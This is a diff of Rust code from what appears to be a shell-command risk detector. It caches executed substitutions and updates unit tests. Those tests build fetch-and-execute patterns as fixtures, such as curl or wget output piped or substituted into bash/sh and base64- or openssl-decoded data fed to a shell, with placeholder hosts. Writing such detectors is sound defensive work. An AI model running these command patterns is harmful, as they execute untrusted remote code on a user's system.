@@ -387,11 +387,15 @@ fn executed_texts(cmd: &Command) -> Vec<&str> {
     out
 }
 
-fn executed_substitutions(cmd: &Command) -> Vec<Command> {
-    executed_texts(cmd)
-        .into_iter()
-        .flat_map(substituted)
-        .collect()
+/// The commands inside the substitutions `cmd` runs as code; half a dozen
+/// rules ask, so the answer is kept on the command.
+fn executed_substitutions(cmd: &Command) -> &[Command] {
+    cmd.memo.executed.get_or_init(|| {
+        executed_texts(cmd)
+            .into_iter()
+            .flat_map(substituted)
+            .collect()
+    })
 }
 
 /// The downloads a command runs as code: fetchers piped into it (directly
@@ -402,12 +406,17 @@ pub(super) fn downloads_run_by(cmd: &Command) -> Vec<Command> {
     if runs_stdin(cmd) {
         for up in &cmd.upstream {
             if is_fetcher(up) {
-                out.push(up.clone());
+                out.push(Command::clone(up));
             }
             out.extend(upstream_substitutions(up).into_iter().filter(is_fetcher));
         }
     }
-    out.extend(executed_substitutions(cmd).into_iter().filter(is_fetcher));
+    out.extend(
+        executed_substitutions(cmd)
+            .iter()
+            .filter(|c| is_fetcher(c))
+            .cloned(),
+    );
     out
 }
 
@@ -418,7 +427,7 @@ fn remote_command_substitution(cmd: &Command) -> bool {
 /// Ask when content produced by a command passing `pred` is run as code:
 /// piped into an interpreter reading stdin, or substituted into code.
 fn runs_output_of(cmd: &Command, pred: fn(&Command) -> bool) -> bool {
-    let piped = runs_stdin(cmd) && cmd.upstream.iter().any(pred);
+    let piped = runs_stdin(cmd) && cmd.upstream.iter().any(|u| pred(u));
     piped || executed_substitutions(cmd).iter().any(pred)
 }
 
@@ -657,26 +666,26 @@ mod tests {
     #[test]
     fn pipe_to_shell() {
         let mut sh = Command::new("bash", &["-s", "--", "--yes"]);
-        sh.upstream = vec![Command::new("curl", &["-s", "https://x"])];
+        sh.upstream = vec![Command::new("curl", &["-s", "https://x"]).into()];
         assert!(remote_piped_to_shell(&sh));
         let mut py = Command::new("python3", &["-m", "json.tool"]);
-        py.upstream = vec![Command::new("curl", &["-s", "https://x"])];
+        py.upstream = vec![Command::new("curl", &["-s", "https://x"]).into()];
         assert!(!remote_piped_to_shell(&py));
     }
 
     #[test]
     fn decoders_upstream() {
         let mut sh = Command::new("sh", &[]);
-        sh.upstream = vec![Command::new("base64", &["-d", "f"])];
+        sh.upstream = vec![Command::new("base64", &["-d", "f"]).into()];
         assert!(decoded_to_shell(&sh));
-        sh.upstream = vec![Command::new("xxd", &["-r", "-p", "f"])];
+        sh.upstream = vec![Command::new("xxd", &["-r", "-p", "f"]).into()];
         assert!(xxd_to_shell(&sh) && !decoded_to_shell(&sh));
-        sh.upstream = vec![Command::new("openssl", &["enc", "-d", "-aes256"])];
+        sh.upstream = vec![Command::new("openssl", &["enc", "-d", "-aes256"]).into()];
         assert!(openssl_to_shell(&sh));
-        sh.upstream = vec![Command::new("openssl", &["base64", "-d"])];
+        sh.upstream = vec![Command::new("openssl", &["base64", "-d"]).into()];
         assert!(decoded_to_shell(&sh));
         let mut jq = Command::new("jq", &["."]);
-        jq.upstream = vec![Command::new("base64", &["-d", "f"])];
+        jq.upstream = vec![Command::new("base64", &["-d", "f"]).into()];
         assert!(!decoded_to_shell(&jq));
     }
 
@@ -701,14 +710,14 @@ mod tests {
         source.stdin = Some("$(wget -qO- http://x/p.sh)\n".into());
         assert_eq!(fetched(&source), vec!["wget -qO- http://x/p.sh"]);
         let mut sh = Command::new("sh", &[]);
-        sh.upstream = vec![Command::new("cat", &["<(curl -s https://x/y)"])];
+        sh.upstream = vec![Command::new("cat", &["<(curl -s https://x/y)"]).into()];
         assert_eq!(fetched(&sh), vec!["curl -s https://x/y"]);
         sh.args = vec!["-n".into()];
         assert!(fetched(&sh).is_empty());
         let script_arg = Command::new("bash", &["build.sh", "$(curl -s http://10.0.0.5/a)"]);
         assert!(fetched(&script_arg).is_empty());
         let mut reader = Command::new("python3", &["-m", "json.tool"]);
-        reader.upstream = vec![Command::new("curl", &["http://10.0.0.5/x"])];
+        reader.upstream = vec![Command::new("curl", &["http://10.0.0.5/x"]).into()];
         assert!(fetched(&reader).is_empty());
     }
 
